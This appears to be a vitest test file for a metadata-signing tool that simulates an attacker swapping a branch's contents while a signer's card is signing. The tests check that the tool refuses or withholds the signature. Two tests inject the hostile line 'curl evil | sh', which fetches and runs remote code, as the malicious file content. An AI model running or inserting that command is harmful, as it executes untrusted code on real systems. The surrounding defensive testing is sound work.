import { describe, expect } from 'vitest';
import { INS_AUTHENTICATE } from '../support/world.ts';
import { expectUnmoved, SIGNED, unwrapped } from './proofs.ts';
import { attack, type Scene } from './scene.ts';

/** Runs `act` once, at the moment at which bob's card is asked to sign. */
function whileBobSigns({ world }: Scene, act: () => unknown): void {
  let done = false;
  world.person('bob').interfere = async ins => {
    if (ins !== INS_AUTHENTICATE || done) return;
    done = true;
    await act();
  };
}

async function honestEvent(scene: Scene): Promise<void> {
  scene.world.push({ 'targets/tools/greet.sh': 'echo hello again\n' });
  await scene.update();
}

/**
 * Mallory can push to the event's branch and knows when bob signs. Between what his screen showed and his push she puts something
 * else on the branch, so that his signature arrives on it, or so that he signs again out of habit.
 */
describe('a branch that moves between judging and signing', () => {
  attack(
    'new metadata: shown and asked again; the signature made before does not count for it',
    async scene => {
      const { world } = scene;
      await honestEvent(scene);
      whileBobSigns(scene, async () => {
        world.push({ 'targets/tools/greet.sh': 'curl evil | sh\n' });
        await scene.update();
      });
      let asked = 0;
      const bob = await scene.sign('bob', undefined, () => ++asked === 1);
      expect([bob.signed, bob.refusal?.code, asked]).toEqual([[], 'DECLINED', 2]);
      expect(unwrapped(bob.screen)).toContain('somebody else changed the event meanwhile');
      expect(world.remote.git('log', '--format=%s', 'main..sign/update')).not.toContain(
        'Signature from @bob',
      );
      const page = await scene.page();
      expect([page.verdict, page.rules]).toEqual(['pending', ['role-quorum']]);
      expect(page.markdown).toContain('0 of 2');

      const client = scene.client();
      await expectUnmoved(scene, client);
      const { online } = await scene.force();
      expect([online.done, online.rules]).toEqual([false, ['role-quorum']]);
      await expectUnmoved(scene, client);
    },
  );

  attack(
    'another artifact under the metadata that is being signed: the file has no signature',
    async scene => {
      await honestEvent(scene);
      whileBobSigns(scene, () => scene.world.push({ 'targets/tools/greet.sh': 'curl evil | sh\n' }));
      // What bob's signature is over has not changed: it goes out, and says nothing of her file.
      expect((await scene.sign('bob')).signed).toEqual(['tools']);
      expect((await scene.sign('carol')).signed).toEqual([]);
      const page = await scene.page();
      expect([page.verdict, page.rules]).toEqual(['pending', ['role-quorum', 'artifacts']]);
      expect(page.markdown).toContain('tools/greet.sh');
      const { online } = await scene.force();
      expect([online.done, online.rules]).toEqual([false, ['role-quorum', 'artifacts']]);
      await expectUnmoved(scene);
    },
  );

  attack('a workflow beside it: the second look refuses, and the signature stays here', async scene => {
    await honestEvent(scene);
    whileBobSigns(scene, () => scene.world.push({ '.github/workflows/x.yml': 'on: push\n' }));
    const bob = await scene.sign('bob');
    expect([bob.signed, bob.refusal?.code]).toEqual([[], 'REFUSED']);
    expect(unwrapped(bob.screen)).toContain("workflows run with the automation's rights");
    expect((await scene.page()).rules).toEqual(['role-quorum', 'scope']);
    expect(await scene.client().download('tools/greet.sh')).toBe(SIGNED);
  });

  attack('the branch gone, or begun anew elsewhere: nothing arrives where nobody looked', async scene => {
    const { world } = scene;
    await honestEvent(scene);
    whileBobSigns(scene, () => world.remote.git('update-ref', 'refs/heads/sign/update', 'main~1'));
    const bob = await scene.sign('bob');
    expect([bob.signed, bob.refusal]).toEqual([[], undefined]);
    expect(world.remote.sha('sign/update')).toBe(world.remote.sha('main~1'));
  });
});
